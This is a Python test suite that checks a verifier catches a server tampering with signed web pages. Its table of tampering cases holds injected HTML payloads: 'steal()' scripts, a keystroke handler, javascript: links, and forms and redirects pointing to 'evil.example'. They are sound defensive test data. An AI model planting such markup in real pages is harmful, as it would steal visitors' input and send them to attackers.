# SPDX-License-Identifier: AGPL-3.0-or-later
"""The pages that a server serves, beside the list that the organisation signed.

| Attacker | Holds                                              | Tries                                               |
|----------|----------------------------------------------------|-----------------------------------------------------|
| server   | the door's address, every list ever signed, every  | another script, header, form, link; a list of its   |
|          | file that was ever in one; not the site key        | own or an old one; true files said to be something  |
|          |                                                    | else; markup that one reader sees and another not   |

What stays open is shown too: other words on a page that each visit makes anew.
"""

from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from latchstring.protocol.root import Door
from latchstring.protocol.site_key import SiteKey
from latchstring.protocol.site_manifest import SiteManifest, open_site, read_site_unsigned
from latchstring.site import comparing
from latchstring.site.comparing import Difference, NotSigned
from tests.builders import Stream
from tests.reader import Answer
from tests.signed import ONION, SEED, SITE_PATH, Scene, Wire, media_folder
from tests.unit.site.conftest import Pages
from tests.world.world import open_door

Lie = Callable[[str, Answer], Answer]
WRITE = "/en/write"
GUARD = '<script src="/static/guard.js"></script>\n'
APP = '<script src="/static/app.js" defer></script>\n'


@pytest.fixture(scope="module")
def first(tmp_path_factory: pytest.TempPathFactory) -> Scene:
    world, _ = open_door(tmp_path_factory.mktemp("door"), "news")
    settings = replace(media_folder(tmp_path_factory.mktemp("pages")), languages=("en",))
    return Scene.make(Pages(world, settings), settings)


@pytest.fixture(scope="module")
def signed(first: Scene) -> bytes:
    return first.listed(3).sign(SEED)


@pytest.fixture
def scene(first: Scene, signed: bytes) -> Scene:
    first.publish(signed)
    return first


def at(path: str, **changes: object) -> Lie:
    """Other parts of one answer."""
    return lambda asked, answer: replace(answer, **changes) if asked == path else answer  # type: ignore[arg-type]


def head(path: str, **headers: str | None) -> Lie:
    """Other headers, or without them."""

    def lie(asked: str, answer: Answer) -> Answer:
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        merged = {**answer.head, **named}
        return replace(answer, head={n: v for n, v in merged.items() if v is not None}) if asked == path else answer

    return lie


def swap(path: str, old: str, new: str) -> Lie:
    """Other text in one answer."""

    def lie(asked: str, answer: Answer) -> Answer:
        if asked != path:
            return answer
        assert old.encode() in answer.body
        return replace(answer, body=answer.body.replace(old.encode(), new.encode(), 1))

    return lie


def one_byte(asked: str, answer: Answer) -> Answer:
    """A script in which one byte is another."""
    if asked != "/static/argon2-worker.js":
        return answer
    script = answer.body
    return replace(answer, body=script[:5_000] + bytes([script[5_000] ^ 1]) + script[5_001:])


def seen(scene: Scene, lie: Lie, address: str = "") -> list[Difference]:
    wire = scene.wire(address) if address else scene.wire()
    wire.lie = lie
    return scene.verify(wire)


LIES: dict[str, tuple[str, Lie]] = {
    "a script with one other byte": ("/static/argon2-worker.js", one_byte),
    "another style": ("/static/site.css", at("/static/site.css", body=b"body{}", head={})),
    "the door of other keys": ("/static/app.js", swap("/static/app.js", 'DOOR="', 'DOOR="00')),
    "no policy": (WRITE, head(WRITE, content_security_policy=None)),
    "a weaker policy": (WRITE, head(WRITE, content_security_policy="script-src 'self' 'unsafe-inline'")),
    "a script is named page": (
        "/static/argon2-worker.js",
        head("/static/argon2-worker.js", content_type="text/html"),
    ),
    "a cookie": ("/en/", head("/en/", set_cookie="id=1")),
    "a file from elsewhere": (WRITE, head(WRITE, link="</x.js>; rel=preload; as=script")),
    "an onion address of its own": ("/en/", head("/en/", onion_location=f"{ONION}/en/")),
    "a script in the invitation": ("/en/", swap("/en/", "</main>", "<script>steal()</script></main>")),
    "a script in a fresh page": (WRITE, swap(WRITE, "</main>", "<script>steal()</script></main>")),
    "no script to seal what is typed": (WRITE, swap(WRITE, GUARD + APP, "")),
    "no guard against posting it": (WRITE, swap(WRITE, GUARD, "")),
    "the script only in name": (WRITE, swap(WRITE, APP, APP.replace(" defer", ' type="text/plain"'))),
    "the scripts as text": (WRITE, swap(WRITE, GUARD + APP, f"<title>{GUARD}{APP}</title>")),
    "no script to open what is typed": ("/en/return", swap("/en/return", GUARD + APP, "")),
    "a handler": (WRITE, swap(WRITE, "<textarea ", '<textarea onkeyup="steal()" ')),
    "a file that is no script is run": (
        WRITE,
        swap(WRITE, "</head>", '<script src="/media/words.ogg"></script></head>'),
    ),
    "a script that was not signed": (WRITE, swap(WRITE, "</head>", '<script src="/static/x.js"></script></head>')),
    "a module of before": (WRITE, swap(WRITE, "</head>", '<link rel="modulepreload" href="/old.js"></head>')),
    "a form that goes elsewhere": (WRITE, swap(WRITE, f'action="{WRITE}"', 'action="https://evil.example/"')),
    "a form that goes to another address here": (WRITE, swap(WRITE, f'action="{WRITE}"', 'action="/collect"')),
    "a button that goes elsewhere": (WRITE, swap(WRITE, "<button ", '<button formaction="/collect" ')),
    "a page that goes on by itself": (
        WRITE,
        swap(WRITE, "<title>", '<meta http-equiv="refresh" content="0;url=https://evil.example/"><title>'),
    ),
    "a link to a false door": (WRITE, swap(WRITE, 'href="/en/before"', 'href="https://evil.example/"')),
    "a link that is a script": (WRITE, swap(WRITE, 'href="/en/before"', 'href="javascript:steal()"')),
    "an address that is relative to another": (
        WRITE,
        swap(WRITE, "<title>", '<base href="https://e.example/"><title>'),
    ),
    "a frame": (WRITE, swap(WRITE, "</main>", '<iframe src="/en/"></iframe></main>')),
    "a picture that tells who came": (WRITE, swap(WRITE, "</main>", '<img src="https://e.example/1.png"></main>')),
    "a comment that is none": (
        WRITE,
        swap(WRITE, "</main>", '<!--><script src="/x.js"></script>--></main>'),
    ),
    "a tag in a value": (
        WRITE,
        swap(WRITE, "</textarea>", '<i title="</textarea><script src=/x.js></script>"></textarea>'),
    ),
    "capitals": (WRITE, swap(WRITE, "</main>", '<SCRIPT SRC="/x.js"></SCRIPT></main>')),
    "another way to leave": ("/leave", head("/leave", location="https://evil.example/")),
    "a page that is not there": ("/en/help", at("/en/help", status=404)),
    "a page without an end": ("/en/status", at("/en/status", body=b"<!doctype html>\n" + bytes(1 << 21))),
    "words for those who come by Tor, to those who do not": (
        "/en/before",
        swap("/en/before", "You came without our Tor address", "You came by our Tor address"),
    ),
    "no program to read": ("/source.tar.gz", at("/source.tar.gz", body=b"\x1f\x8b")),
    "another recording": ("/media/words.ogg", at("/media/words.ogg", body=bytes(199_999) + b"\x01")),
}


@pytest.mark.parametrize("name", LIES)
def test_a_lie_is_seen_where_it_is_told(scene: Scene, name: str) -> None:
    path, lie = LIES[name]
    assert {one.path for one in seen(scene, lie)} == {path}


def test_a_page_for_tor_in_the_open_is_told_in_words(scene: Scene) -> None:
    tor = Wire(scene.door.site, ONION)

    def lie(path: str, answer: Answer) -> Answer:
        if path != "/en/before":
            return answer
        served = tor.ask(path, "text/html", 1 << 20, True)
        return replace(answer, body=served.body)

    assert [one.what for one in seen(scene, lie)] == [
        "it says the wrong thing of the way on which one comes (by Tor or not)"
    ]


def test_other_lists_are_not_believed(scene: Scene) -> None:
    """Another key's, another door's, one that is not there, one that is nothing."""
    other = Stream("another key")(32)
    lists = {
        scene.listed(4).sign(other): "not signed by the door's organisation",
        replace(scene.listed(4), door=Door(Stream("door")(32))).sign(SEED): "another door's",
        scene.listed(4).sign(SEED)[:-1]: "not signed by the door's organisation",
    }
    for raw, why in lists.items():
        scene.publish(raw)
        with pytest.raises(NotSigned, match=why):
            scene.verify(scene.wire())
    with pytest.raises(NotSigned, match="serves no signed list") as none:
        seen(scene, at(SITE_PATH, status=404))
    assert none.value.wrong


def old_list(scene: Scene) -> tuple[Scene, Lie]:
    """Pages that turned out to be bad were signed as number 3; the organisation takes them back, and signs number 4."""
    bad = b"// a script with a hole"
    was = scene.listed(3)
    items = tuple(
        replace(item, bodies=(type(item.bodies[0]).of(bad),)) if item.path == "/static/site.css" else item
        for item in was.items
    )
    raw = SiteManifest(was.door, 3, items).sign(SEED)
    scene.publish(scene.listed(4).sign(SEED))
    now = replace(scene, directory=replace(scene.directory, site=SiteKey(scene.directory.site.key, 4)))  # type: ignore[union-attr]

    def lie(path: str, answer: Answer) -> Answer:
        if path == SITE_PATH:
            return replace(answer, body=raw)
        if path == "/static/site.css":
            return replace(answer, body=bad)
        return answer

    return now, lie


def test_what_was_taken_back_does_not_come_again(scene: Scene) -> None:
    now, lie = old_list(scene)
    assert now.verify(now.wire()) == []
    with pytest.raises(NotSigned, match="number 3, and those below 4 count no more"):
        seen(now, lie)


def test_whoever_knows_of_a_newer_list_says_so(scene: Scene) -> None:
    assert scene.verify(scene.wire(), 3) == []
    with pytest.raises(NotSigned, match="number 3, and those below 5"):
        scene.verify(scene.wire(), 5)


def test_other_words_on_a_fresh_page_stay_unseen(scene: Scene) -> None:
    """The limit: of pages that each visit makes anew, words are not looked at. docs/threat-model.md says so."""
    assert seen(scene, swap(WRITE, "Nothing goes to the desk with this step.", "Call us at once: 555-0100.")) == []


# --- Would the tests notice? Each variant lacks one line of the check. ------------------------------------------------


class Lenient(HTMLParser):
    """A reader that is as forgiving as most: it looks at scripts, and believes comments and capitals."""

    def __init__(self, listed: Mapping[str, str]) -> None:
        super().__init__()
        self.listed = listed
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag == "script" and given.get("src") not in self.listed and given.get("type") != "application/json":
            self.found.append("a script")


def lenient(page: bytes, listed: Mapping[str, str], _runs: Sequence[str] = ()) -> list[str]:
    reader = Lenient(listed)
    reader.feed(page.decode())
    return reader.found


def test_a_reader_that_is_not_strict_would_be_seen(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(comparing, "faults", lenient)
    assert seen(scene, LIES["a script in a fresh page"][1]), "it is no straw man"
    assert seen(scene, LIES["a tag in a value"][1]) == [], "a browser runs it, and this reader sees a title"


def test_headers_that_nobody_compares_would_be_seen(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(comparing, "_head", lambda *_: [])
    assert [name for name, (_, lie) in LIES.items() if "policy" in name and seen(scene, lie)] == []


def test_bytes_that_nobody_compares_would_be_seen(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(comparing, "_body", lambda *_: [])
    assert seen(scene, LIES["a script with one other byte"][1]) == []


def test_a_signature_that_nobody_checks_would_be_seen(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(comparing, "open_site", lambda raw, _key: read_site_unsigned(raw))
    scene.publish(scene.listed(4).sign(Stream("another key")(32)))
    assert scene.verify(scene.wire()) == []


def test_a_number_that_nobody_looks_at_would_be_seen(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    now, lie = old_list(scene)
    monkeypatch.setattr(comparing, "open_site", lambda raw, key: replace(open_site(raw, key), n=1 << 40))
    assert seen(now, lie) == []
